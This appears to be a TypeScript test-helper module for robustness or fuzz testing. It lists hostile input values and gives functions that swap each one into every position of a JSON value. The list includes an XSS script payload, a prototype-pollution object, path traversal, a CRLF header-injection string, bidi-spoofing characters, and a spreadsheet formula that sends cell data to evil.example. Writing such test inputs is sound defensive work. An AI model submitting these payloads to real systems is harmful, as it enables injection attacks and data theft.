/** What stands where something else should: of other types, sizes and meanings, as JSON can hold it. */
export const HOSTILE_VALUES: [name: string, value: unknown][] = [
  ['null', null],
  ['true', true],
  ['a number', 42],
  ['less than nothing', -1],
  ['a part of one', 0.5],
  ['a number without end', 1e308],
  ['a list', []],
  ['a list of lists', [[[]]]],
  ['an object', {}],
  ['an object that says what it is as a text', { toString: 'x', valueOf: 1, length: 3 }],
  ['a prototype', JSON.parse('{"__proto__":{"id":"x","name":"x"},"constructor":{"prototype":{"id":"x"}}}')],
  ['no text', ''],
  ['a space', ' '],
  ['a null character', '\u0000'],
  ['half a character', '\ud800'],
  ['letters that turn others around', '\u202e\u2066evil\u200f'],
  ['the name of every prototype', '__proto__'],
  ['the name of a method', 'hasOwnProperty'],
  ['a path', '../../document/login'],
  ['an address', 'https://evil.example/?'],
  ['two lines', 'one\r\nX-Api-Key: two'],
  ['HTML', '<img src=x onerror=alert(1)>"\'</script><script>alert(1)</script>'],
  ['a formula', '=IMPORTDATA("https://evil.example/"&A1)'],
  ['60,000 letters', 'x'.repeat(60_000)],
  ['10,000 things', Array(10_000).fill('x')],
];

/** A place in a value: what leads to it, from the outside in. */
export type Path = (string | number)[];

/** Every place in a value at which something else could stand: the value itself, and all that is in it. */
export function placesIn(value: unknown): Path[] {
  if (typeof value !== 'object' || value === null) return [[]];
  const parts = Object.entries(value) as [string, unknown][];
  const inner = parts.flatMap(([name, part]) =>
    placesIn(part).map((path): Path => [Array.isArray(value) ? Number(name) : name, ...path]),
  );
  return [[], ...inner];
}

/** A copy of a value with something else at one place. */
export function changedAt(value: unknown, [first, ...rest]: Path, other: unknown): unknown {
  if (first === undefined) return other;
  const copy: Record<string, unknown> | unknown[] = Array.isArray(value)
    ? [...value]
    : { ...(value as object) };
  (copy as Record<string | number, unknown>)[first] = changedAt(
    (value as Record<string | number, unknown>)[first],
    rest,
    other,
  );
  return copy;
}
